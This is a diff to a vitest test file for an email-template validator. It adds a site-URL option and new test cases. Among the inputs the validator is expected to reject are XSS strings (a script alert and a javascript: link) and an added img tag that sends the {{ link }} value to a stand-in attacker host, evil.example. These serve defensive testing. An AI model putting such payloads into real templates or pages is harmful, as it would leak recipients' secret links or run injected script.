@@ -2,11 +2,12 @@ import { describe, expect, it } from 'vitest';
 import { findTemplateFault, findTypedName, insertName } from './mail-template.ts';
 
 const known = ['first_name', 'link', 'message'];
-const faultOf = (text: string) => findTemplateFault('body', text, known);
+const faultOf = (text: string) =>
+  findTemplateFault('body', text, { variables: known, siteUrl: 'https://alpaca.example' });
 
 describe('a template', () => {
   it.each([
-    '{{ first_name }} {{link}} {{- message -}}',
+    '{{ first_name }} {{link}} <p>{{- message -}}</p>',
     '{% if message and first_name != "x" %}{{ message }}{% else %}-{% endif %}',
     `{{ first_name | default: 'you' | truncate: 20, "…" }}`,
     '<p class="button">first name, salary</p>',
@@ -24,6 +25,7 @@ describe('a template', () => {
     ['{% if message %}x', { code: 'unclosed' }],
     ['<script>alert(1)</script>', { code: 'unsafe_html' }],
     ['<a href="javascript:x">x</a>', { code: 'unsafe_html' }],
+    ['<img src="https://evil.example/?{{ link }}">', { code: 'secret_misplaced' }],
   ])('may not say %.40s', (text, fault) => {
     expect(faultOf(text)).toEqual(fault);
   });
